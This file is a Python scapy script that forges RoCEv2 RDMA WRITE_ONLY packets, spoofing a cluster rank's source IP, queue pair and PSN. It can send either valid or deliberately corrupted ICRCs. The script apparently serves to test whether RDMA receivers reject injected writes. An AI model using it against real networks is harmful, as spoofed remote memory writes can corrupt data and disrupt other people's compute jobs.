#!/usr/bin/python3
"""Sends forged RoCEv2 RC RDMA WRITE_ONLY packets, built by scapy, out of an interface: a host on
an inter-rack link pretending to be a rank.
  forge_write.py IFACE SRC_IP DST_IP DQPN PSN PAYLOAD_BYTES COUNT good|bad
good: scapy's ICRC; bad: the same ICRC with its bits flipped."""
import logging
import struct
import sys

logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
from scapy.all import IP, UDP, Ether, Raw, load_contrib, sendp  # noqa: E402

load_contrib("roce")
from scapy.contrib.roce import BTH  # noqa: E402

WRITE_ONLY = 0x0A


def main(argv):
    if len(argv) != 9 or argv[8] not in ("good", "bad"):
        print(__doc__, file=sys.stderr)
        return 2
    iface, src_ip, dst_ip = argv[1:4]
    dqpn, psn, size, count, kind = int(argv[4], 0), int(argv[5], 0), int(argv[6]), int(argv[7]), argv[8]
    frames = []
    for i in range(count):
        reth = struct.pack(">QII", 0x7F0000000000, 0x1234, size)  # virtual address, rkey, DMA length
        pkt = (Ether(src="02:77:00:00:09:09", dst="ff:ff:ff:ff:ff:ff") /
               IP(src=src_ip, dst=dst_ip, flags="DF", id=0x5000 + i) / UDP(sport=49152, dport=4791, chksum=0) /
               BTH(opcode=WRITE_ONLY, pkey=0xFFFF, dqpn=dqpn, psn=(psn + i) & 0xFFFFFF) /
               Raw(reth + bytes([0x5A]) * size))
        raw = bytearray(bytes(pkt))
        if kind == "bad":
            for k in range(1, 5):
                raw[-k] ^= 0xFF
        frames.append(Ether(bytes(raw)))
    sendp(frames, iface=iface, verbose=False)
    print(f"sent {count} WRITE_ONLY packets from {src_ip} with {kind} ICRCs to QPN {dqpn:#x} at {dst_ip} via {iface}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
